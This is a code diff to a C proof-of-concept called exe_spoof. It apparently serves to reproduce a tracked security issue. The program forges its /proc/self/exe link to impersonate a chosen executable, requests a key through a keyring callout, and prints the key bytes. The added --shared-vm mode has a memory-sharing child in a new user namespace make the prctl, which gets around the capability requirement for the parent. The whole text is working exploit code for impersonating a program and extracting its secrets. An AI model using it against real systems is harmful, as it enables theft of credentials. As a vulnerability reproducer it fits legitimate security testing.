@@ -3,7 +3,13 @@
  * then asks for a key (issue 20, item 2). Run in a user namespace of its
  * own (unshare -Ur), where it holds CAP_CHECKPOINT_RESTORE.
  *
- *   exe_spoof TARGET|- DESCRIPTION CALLOUT
+ *   exe_spoof [--shared-vm] TARGET|- DESCRIPTION CALLOUT
+ *
+ * With --shared-vm the program stays in the initial user namespace and the
+ * prctl is made by a child that shares its memory (clone with CLONE_VM and
+ * CLONE_NEWUSER): the capability is checked in the child's namespace, and
+ * the exe link belongs to the memory image both share, so the parent's
+ * /proc/self/exe names TARGET once the child has exited.
  *
  * With TARGET, the program first moves every mapping of its own executable
  * to anonymous memory at the same address (the kernel refuses a new exe
@@ -28,6 +34,8 @@
 #include <sys/mman.h>
 #include <sys/prctl.h>
 #include <sys/syscall.h>
+#include <sched.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 struct range {
@@ -152,10 +160,20 @@ static void mm_fields(struct prctl_mm_map *m)
 	m->brk = (unsigned long)syscall(SYS_brk, 0);
 }
 
+/* The prctl, in the child that shares our memory. */
+static int swap_exe(void *map)
+{
+	struct prctl_mm_map *m = map;
+	return prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long)m, sizeof *m, 0) == 0 ? 0 : 1;
+}
+
 int main(int argc, char **argv)
 {
+	int shared_vm = argc > 1 && strcmp(argv[1], "--shared-vm") == 0;
+	argc -= shared_vm;
+	argv += shared_vm;
 	if (argc != 4) {
-		fprintf(stderr, "usage: exe_spoof TARGET|- DESCRIPTION CALLOUT\n");
+		fprintf(stderr, "usage: exe_spoof [--shared-vm] TARGET|- DESCRIPTION CALLOUT\n");
 		return 2;
 	}
 	static char self[PATH_MAX], now[PATH_MAX], want[PATH_MAX];
@@ -176,13 +194,25 @@ int main(int argc, char **argv)
 			die("no mapping of our own executable");
 		}
 		unmap_own_file(r, k);
-		struct prctl_mm_map m = {0};
+		static struct prctl_mm_map m;
 		mm_fields(&m);
 		m.auxv = NULL;
 		m.auxv_size = 0;
 		m.exe_fd = (unsigned)fd;
-		if (prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long)&m, sizeof m, 0) != 0)
+		if (shared_vm) {
+			static char stack[1 << 16];
+			int st = 0;
+			int pid = clone(swap_exe, stack + sizeof stack,
+					CLONE_VM | CLONE_NEWUSER | SIGCHLD, &m);
+			if (pid < 0)
+				die("clone(CLONE_VM | CLONE_NEWUSER)");
+			if (waitpid(pid, &st, 0) != pid || !WIFEXITED(st) || WEXITSTATUS(st) != 0) {
+				errno = EPERM;
+				die("prctl(PR_SET_MM_MAP) in the child");
+			}
+		} else if (prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long)&m, sizeof m, 0) != 0) {
 			die("prctl(PR_SET_MM_MAP)");
+		}
 		close(fd);
 		n = readlink("/proc/self/exe", now, sizeof now - 1);
 		if (n < 0)
@@ -197,20 +227,22 @@ int main(int argc, char **argv)
 	}
 	printf("exe %s\n", now);
 	fflush(stdout);
+	/* From here on write(2) only: stdio's buffer is not flushed at exit
+	 * once a child has run on our memory (--shared-vm). */
 	long key = syscall(SYS_request_key, "user", argv[2], argv[3], KEY_SPEC_PROCESS_KEYRING);
 	if (key < 0) {
-		printf("err %d\n", errno);
+		dprintf(1, "err %d\n", errno);
 		return 0;
 	}
 	unsigned char buf[2048];
 	long len = syscall(SYS_keyctl, KEYCTL_READ, key, buf, sizeof buf);
 	if (len < 0) {
-		printf("readerr %d\n", errno);
+		dprintf(1, "readerr %d\n", errno);
 		return 0;
 	}
-	printf("ok ");
+	dprintf(1, "ok ");
 	for (long i = 0; i < len && i < (long)sizeof buf; i++)
-		printf("%02x", buf[i]);
-	printf("\n");
+		dprintf(1, "%02x", buf[i]);
+	dprintf(1, "\n");
 	return 0;
 }
